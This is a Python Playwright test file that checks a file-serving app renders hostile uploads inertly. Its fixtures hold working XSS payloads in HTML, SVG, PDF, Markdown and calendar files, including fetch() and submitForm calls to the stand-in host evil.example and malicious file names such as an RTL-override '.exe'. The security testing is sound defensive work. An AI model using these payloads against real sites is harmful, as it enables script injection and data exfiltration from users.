"""Files and names that were made to do harm, shown by a real browser: none runs, none escapes."""

import pytest
from playwright.sync_api import Browser

from tests.browser.chromium import Tab, opened
from tests.browser.elsewhere import Elsewhere
from tests.browser.visiting import address, entered
from tests.daemons.processes import Home

RUN = "fetch('http://evil.example:{port}/ran'); document.title='ran'; top.document.title='ran'"
HTML = f"""<!doctype html><title>a page</title>
<script>{RUN}</script><script src="http://evil.example:{{port}}/script"></script>
<img src="http://evil.example:{{port}}/img" onerror="{RUN}"><svg onload="{RUN}"></svg>
<link rel="stylesheet" href="http://evil.example:{{port}}/style">
<link rel="prefetch" href="http://evil.example:{{port}}/prefetch">
<link rel="dns-prefetch" href="//evil.example">
<style>@import "http://evil.example:{{port}}/import";
p {{{{ background: url(http://evil.example:{{port}}/bg) }}}}</style>
<iframe src="http://evil.example:{{port}}/frame"></iframe>
<iframe srcdoc="<script>{RUN}</script>"></iframe>
<object data="http://evil.example:{{port}}/object"></object>
<form action="http://evil.example:{{port}}/form"><input autofocus onfocus="{RUN}"></form>
<meta http-equiv="refresh" content="0;url=http://evil.example:{{port}}/refresh">
<video src="http://evil.example:{{port}}/video" autoplay></video>
<p>a page</p>
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="9" height="9" onload="{RUN}"><script>{RUN}</script>
<image xlink:href="http://evil.example:{{port}}/image" width="9" height="9"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{RUN}"/></body>
</foreignObject></svg>"""
PDF = """%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
4 0 obj<</S/JavaScript/JS(this.submitForm("http://evil.example:{port}/pdf"); app.alert(1);)>>endobj
trailer<</Root 1 0 R>>
"""
MARKDOWN = f"# note\n<script>{RUN}</script>\n![x](http://evil.example:{{port}}/md)\n"
ICS = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:<script>{run}</script>\r\n"
    "ATTACH:http://evil.example:{{port}}/ics\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
).replace("{run}", RUN)

CORPUS = {
    "page.html": HTML,
    "page.xhtml": HTML.replace("<!doctype html>", '<html xmlns="http://www.w3.org/1999/xhtml">'),
    "picture.svg": SVG,
    "paper.pdf": PDF,
    "note.md": MARKDOWN,
    "day.ics": ICS,
    "code.js": RUN,
    "constructor": HTML,
    "__proto__": HTML,
    "<img src=x onerror=alert(1)>": HTML,
    "\u202egpj.exe": HTML,
    "javascript:alert(1)": HTML,
    "no type": HTML,
}


@pytest.fixture(scope="module")
def stocked(home: Home, evil: Elsewhere, tmp_path_factory: pytest.TempPathFactory) -> Home:
    """The home, with the corpus in a folder."""
    folder = tmp_path_factory.mktemp("corpus") / "hostile"
    folder.mkdir()
    for name, text in CORPUS.items():
        (folder / name).write_text(text.replace("{port}", str(evil.port)).replace("{{", "{"))
    home.run("put", str(folder)).ok()
    return home


FRAMED = """async (address) => {
  const never = new Promise((_, end) => setTimeout(end, 30000, new Error("it is not shown")));
  for (const kind of ["iframe", "img", "video"]) {
    const shown = document.createElement(kind);
    const ended = new Promise((end) => { shown.onload = shown.onerror = end; });
    shown.src = address;
    document.body.append(shown);
    await Promise.race([ended, never]);
    shown.remove();
  }
  const kept = document.createElement("iframe");
  const loaded = new Promise((end) => { kept.onload = end; });
  kept.src = address;
  document.body.append(kept);
  await Promise.race([loaded, never]);
  let seen = "";
  try { seen = String(kept.contentDocument); } catch (error) { seen = "refused"; }
  return seen;
}"""


@pytest.mark.parametrize("name", CORPUS)
def test_it_does_nothing_in_the_page(
    stranger: Tab, stocked: Home, evil: Elsewhere, name: str
) -> None:
    tab = entered(stranger, stocked)
    title, heard = tab.page.title(), len(evil.heard)
    seen = tab.page.evaluate(FRAMED, address(tab, f"hostile/{name}"))
    assert seen in ("null", "refused")
    assert tab.dialogs == []
    assert tab.page.title() == title
    assert evil.heard[heard:] == []


@pytest.mark.parametrize("name", CORPUS)
def test_it_does_nothing_in_a_tab_of_its_own(
    stranger: Tab, stocked: Home, evil: Elsewhere, name: str
) -> None:
    tab = entered(stranger, stocked)
    at, heard = address(tab, f"hostile/{name}"), len(evil.heard)
    with tab.page.expect_popup() as opening:
        tab.page.evaluate("(address) => { window.open(address, '_blank', 'noopener'); }", at)
    other = opening.value
    other.wait_for_load_state()
    assert other.url == at
    assert tab.dialogs == []
    assert other.title() != "ran"
    assert evil.heard[heard:] == []


def test_a_hostile_page_is_shown_all_the_same(chromium: Browser, stocked: Home) -> None:
    """What the others prove nothing without: it was shown, its text is there."""
    with opened(chromium) as tab:
        at = address(entered(tab, stocked), "hostile/page.html")
        tab.page.goto(at)
        assert "a page" in tab.page.inner_text("p")
